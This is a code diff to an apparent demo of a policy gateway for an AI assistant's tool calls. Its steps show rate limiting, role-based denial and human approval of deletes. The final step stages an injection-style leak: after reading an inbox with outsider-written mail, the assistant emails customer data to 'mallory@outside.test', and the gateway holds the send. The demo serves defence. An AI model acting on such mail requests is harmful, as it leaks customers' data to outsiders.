@@ -35,76 +35,55 @@ enum Call {
     Tool(&'static str, Value),
 }
 
+/// What each step teaches.
+const LESSONS: [&str; 9] = [
+    "a listed read of an agent in good standing goes through",
+    "HTTP APIs pass the same stages as MCP tools",
+    "the same tool, twice more",
+    "three reads a minute per agent and tool: the answer says when to come back",
+    "the reporter is read-only: nothing reaches the tool",
+    "high consequence waits for people; nothing is sent meanwhile",
+    "an internal address makes this a write, and a harmless one",
+    "its mails are confidential, and outsiders wrote some of them: the run is labelled",
+    "read, then send outside: two harmless steps that together carry data out",
+];
+
 fn steps() -> Vec<Step> {
     let search = || Call::Tool("search_customers", json!({"name": "Weber"}));
     let step =
         |title, lesson, agent, call, expected| Step { title, lesson, agent, call, expected, traced: false };
-    let mut steps = vec![
-        step(
-            "Search customers",
-            "a listed read of an agent in good standing goes through",
-            "assistant",
-            search(),
-            "allowed",
-        ),
-        step(
-            "Get an invoice over plain HTTP",
-            "HTTP APIs pass the same stages as MCP tools",
-            "assistant",
-            Call::Http("GET", "/billing/v1/invoices/1001"),
-            "allowed",
-        ),
-        step("Search again", "the same tool, twice more", "assistant", search(), "allowed"),
-        step("… and again", "", "assistant", search(), "allowed"),
-        step(
-            "… and once too often",
-            "three reads a minute per agent and tool: the answer says when to come back",
-            "assistant",
-            search(),
-            "limited",
-        ),
-        step(
-            "Delete a customer, as the reporter",
-            "the reporter is read-only: nothing reaches the tool",
-            "reporter",
-            Call::Tool("delete_customer", json!({"id": "C-1007"})),
-            "denied",
-        ),
-        step(
-            "Delete a customer, as the assistant",
-            "high consequence waits for people; nothing is sent meanwhile",
-            "assistant",
-            Call::Tool("delete_customer", json!({"id": "C-1007"})),
-            "pending",
-        ),
-        step(
+    let tool = |name, arguments| Call::Tool(name, arguments);
+    let delete = || tool("delete_customer", json!({"id": "C-1007"}));
+    let mail = |to: &str, body: &str| tool("send_email", json!({"to": to, "subject": "Hello", "body": body}));
+    let invoice = Call::Http("GET", "/billing/v1/invoices/1001");
+    let list: [(_, _, _, Call, _); 10] = [
+        ("Search customers", LESSONS[0], "assistant", search(), "allowed"),
+        ("Get an invoice over plain HTTP", LESSONS[1], "assistant", invoice, "allowed"),
+        ("Search again", LESSONS[2], "assistant", search(), "allowed"),
+        ("… and again", "", "assistant", search(), "allowed"),
+        ("… and once too often", LESSONS[3], "assistant", search(), "limited"),
+        ("Delete a customer, as the reporter", LESSONS[4], "reporter", delete(), "denied"),
+        ("Delete a customer, as the assistant", LESSONS[5], "assistant", delete(), "pending"),
+        (
             "Mail to a colleague",
-            "an internal address makes this a write, and a harmless one",
+            LESSONS[6],
             "assistant",
-            Call::Tool(
-                "send_email",
-                json!({"to": "ana@example.org", "subject": "Hello", "body": "See you at ten."}),
-            ),
+            mail("ana@example.org", "See you at ten."),
             "allowed",
         ),
-        step(
-            "Read the inbox",
-            "its mails are confidential, and outsiders wrote some of them: the run is labelled",
-            "assistant",
-            Call::Tool("read_inbox", json!({})),
-            "allowed",
-        ),
-        step(
+        ("Read the inbox", LESSONS[7], "assistant", tool("read_inbox", json!({})), "allowed"),
+        (
             "Send what a mail asked for to its author",
-            "read, then send outside: two harmless steps that together carry data out",
+            LESSONS[8],
             "assistant",
-            Call::Tool(
-                "send_email",
-                json!({"to": "mallory@outside.test", "subject": "List", "body": "C-1007 Ana Weber"}),
-            ),
+            mail("mallory@outside.test", "C-1007 Ana Weber"),
             "pending",
         ),
     ];
+    let mut steps: Vec<Step> = list
+        .into_iter()
+        .map(|(title, lesson, agent, call, expected)| step(title, lesson, agent, call, expected))
+        .collect();
     for at in [0, 5, 9] {
         if let Some(step) = steps.get_mut(at) {
             step.traced = true;
